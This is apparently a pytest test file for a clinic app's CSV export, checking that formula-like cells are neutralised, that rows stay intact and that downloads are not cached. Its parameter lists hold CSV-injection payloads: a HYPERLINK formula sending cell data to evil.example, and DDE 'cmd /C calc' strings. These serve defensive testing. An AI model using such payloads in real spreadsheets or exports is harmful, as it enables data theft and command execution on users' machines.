"""Nothing in a file that we write is run by the program that opens it."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from clinic.lib.csv_files import download, lines, safe


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example?x="&A1,"click")',
        "=1+1",
        "+1-312-555-0187",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "＝1+1",
    ],
)
def test_a_text_that_could_be_a_formula_gets_an_apostrophe(text: str) -> None:
    assert safe(text) == f"'{text}"
    (row,) = csv.reader(io.StringIO("".join(lines([[text, "next"]])).removeprefix("\ufeff")))
    assert row == [f"'{text}", "next"]  # and stays in its own cell


@pytest.mark.parametrize("name", ["O'Brien", "Anne-Marie", "a=b", "1 @ home", "Łukasz", 'A "B" C'])
def test_other_texts_stay_as_they_are(name: str) -> None:
    assert safe(name) == name


def test_numbers_stay_numbers_also_below_zero() -> None:
    assert (safe(-5), safe(1.5), safe(0)) == (-5, 1.5, 0)
    assert "".join(lines([[-5, 1.5, None, dt.date(2026, 6, 1)]])) == "\ufeff-5,1.5,,2026-06-01\r\n"


def test_a_cell_cannot_break_out_of_its_row() -> None:
    hostile = 'x"\r\n=cmd(),"y'
    text = "".join(lines([[hostile, "b"]])).removeprefix("\ufeff")
    assert list(csv.reader(io.StringIO(text, newline=""))) == [[hostile, "b"]]


def test_it_is_sent_row_by_row_and_kept_nowhere() -> None:
    answer = download(([number] for number in range(3)), name="a.csv")
    assert answer.streaming
    assert answer["Cache-Control"] == "no-store"
    assert answer.getvalue() == b"\xef\xbb\xbf0\r\n1\r\n2\r\n"
